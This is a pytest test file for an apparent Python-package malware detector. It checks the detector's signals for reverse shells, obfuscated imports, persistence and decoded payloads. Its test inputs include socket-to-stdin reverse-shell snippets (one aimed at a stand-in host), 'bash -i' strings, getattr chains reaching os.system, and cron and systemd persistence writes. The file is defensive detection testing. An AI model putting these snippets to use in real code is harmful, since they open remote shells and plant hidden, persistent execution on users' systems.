"""Python source against what it means: the front end, the catalogue and the lists together."""

from __future__ import annotations

import pytest

from packamal.detectors.base import Observed
from packamal.detectors.interpret import interpret
from packamal.detectors.python import read
from packamal.detectors.units import Language, Unit
from packamal.model import Role


def observe(source: str) -> Observed:
    unit = Unit("pkg/__init__.py", "pkg/__init__.py", source.encode(), Language.PYTHON, Role.IMPORT, "import pkg")
    units = {unit.name: unit}
    return interpret(read([unit], units), units, "python", "pkg.whl")


def signals(source: str) -> set[str]:
    return {signal.id.value for signal in observe(source).signals}


def flows(source: str) -> set[str]:
    seen = observe(source)
    names = [signal.id.value for signal in seen.signals]
    return {f"{names[flow.source]} -> {names[flow.sink]}" for flow in seen.flows}


DATA_FILE = """
import subprocess, tempfile
with tempfile.NamedTemporaryFile("w") as held:
    held.write("certificate")
    subprocess.run(["openssl", "x509", "-in", held.name])
"""
STARTED_FILE = """
import subprocess, sys, tempfile
with tempfile.NamedTemporaryFile("w") as held:
    held.write(fetched())
    subprocess.run([sys.executable, held.name])
"""
LOG_FILE = """
import subprocess
with open("build.log", "w") as log:
    subprocess.run(["make"], stdout=log, stderr=log)
"""
INPUT = """
import subprocess
text = open("job.sh").read()
subprocess.run(["sh"], input=text)
"""


def test_what_a_command_prints_into_is_not_what_it_starts():
    assert "file.write -> proc.exec" not in flows(LOG_FILE)


def test_a_file_that_a_command_only_reads_is_not_what_it_starts():
    assert "file.write -> proc.exec" not in flows(DATA_FILE)


def test_a_written_file_that_an_interpreter_is_given_is_started():
    assert "file.write -> proc.exec" in flows(STARTED_FILE)


def test_what_a_command_is_given_to_read_flows_into_it():
    assert "file.read -> proc.exec" in flows(INPUT)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nnull = os.open(os.devnull, os.O_RDWR)\nos.dup2(null, 0)",
        "import os\nwith open(os.devnull) as null:\n    os.dup2(null.fileno(), 1)",
        "def daemonise(fd):\n    import os\n    os.dup2(fd, 0)",
        "command = '$0 up lodash -i'",
    ],
)
def test_a_daemon_is_no_reverse_shell(source):
    assert "proc.reverse-shell" not in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        "import os, socket\ndef run(s):\n    os.dup2(s.fileno(), 0)\nrun(socket.create_connection(('a.example', 1)))",
        "import subprocess, socket\ns = socket.socket()\nsubprocess.call(['/bin/x'], stdin=s, stdout=s)",
        "command = 'bash -i'",
        "command = '/bin/sh -i 2>&1'",
    ],
)
def test_a_shell_bound_to_a_socket_is_a_reverse_shell(source):
    assert "proc.reverse-shell" in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "class A:\n    def run(self, key):\n        return getattr(self, 'do_' + key)",
        "def f(args, names):\n    return [getattr(args, n.replace('-', '_')) for n in names]",
        "def f(args):\n    return [getattr(args, n.replace('-', '_')) for n in ('a-b', 'c-d')]",
        "import configparser\ncp = configparser.ConfigParser()\nkind = 'boolean'\nread = getattr(cp, f'get{kind}')",
        "import socket\ndef f(kind):\n    return getattr(socket, 'AF_' + kind)",
        "import importlib\ndef f(a, b):\n    return getattr(importlib.import_module(f'pkg.{a}'), f'{b}Handler')",
        "import importlib\nmodule = importlib.import_module(__name__ + '.inner')",
        "import os\ndef f(name):\n    return getattr(os, name)",
    ],
)
def test_a_name_looked_up_in_an_ordinary_way_is_not_hidden(source):
    assert "obf.import" not in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "getattr(__import__('o' + 's'), 'popen')('id')",
        "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())('x')",
        "getattr(__import__('subprocess'), ''.join(['r', 'u', 'n']))(['id'])",
        "import os\ndef f(key):\n    return getattr(os, bytes(c ^ key for c in DATA).decode())",
    ],
)
def test_a_name_put_together_to_reach_something_dangerous_is_hidden(source):
    assert "obf.import" in signals(source)


HELP = """
DOCUMENTATION = '''
module: cron
description:
  - Use this module to manage crontab entries and what stands in /etc/cron.d for the user.
  - Run `pip install croniter` first.
'''
EXAMPLES = '''
- name: one
  cron: {file: /etc/cron.d/one}
- name: two
  cron: {file: /etc/systemd/system/two}
'''
"""
COMPLAINT = """
import sys, textwrap
sys.exit(textwrap.dedent('''
    As of the last version this program does not support the old interpreter.
    The latest version that does can be had with:
        pip install thing==1.0'''))
"""
UNIT_FILE = """
UNIT = '''[Unit]
Description=updates
[Service]
ExecStart=/usr/bin/python3 /opt/x.py
[Install]
WantedBy=multi-user.target
# /etc/systemd/system/updates.service
'''
with open("/etc/systemd/system/updates.service", "w") as out:
    out.write(UNIT)
"""
SCRIPT = """
import os
SCRIPT = '''#!/bin/sh
cd /tmp
pip install thing
crontab -l
'''
os.system(SCRIPT)
"""


@pytest.mark.parametrize("source", [HELP, COMPLAINT])
def test_what_people_are_told_is_no_deed(source):
    assert not {"persist.service", "proc.install"} & signals(source)


def test_a_text_that_is_written_or_run_counts_however_long_it_is():
    assert "persist.service" in signals(UNIT_FILE)
    assert "proc.install" in signals(SCRIPT)


def test_a_start_up_place_that_is_opened_for_writing_stays():
    assert "persist.service" in signals("open('/etc/cron.d/x', 'w').write('* * * * * root /tmp/x')")


def targets(source: str, capability: str) -> set[str]:
    return {signal.target for signal in observe(source).signals if signal.id.value == capability}


@pytest.mark.parametrize(
    ("source", "target"),
    [
        ("import base64\nbase64.b64decode('aW1wb3J0IG9z')", "import os"),
        ("import base64\nFirst = 'aW1w'\nprint(base64.b64decode(First + 'b3J0IG9z'))", "import os"),
        ("import zlib, base64\nzlib.decompress(base64.b64decode('eJzLzC3ILypRyC8GABKHA54='))", "import os"),
        ("import base64\ndef f(x):\n    return base64.b64decode(x)", ""),
        ("import base64, sys\nbase64.b64decode(sys.argv[1])", ""),
        ("import base64, requests\nbase64.b64decode(requests.get('https://a.example').text)", ""),
    ],
)
def test_what_a_constant_decodes_to_is_the_target(source, target):
    found = targets(source, "decode.compress" if "zlib" in source else "decode.text")
    assert found == {target}
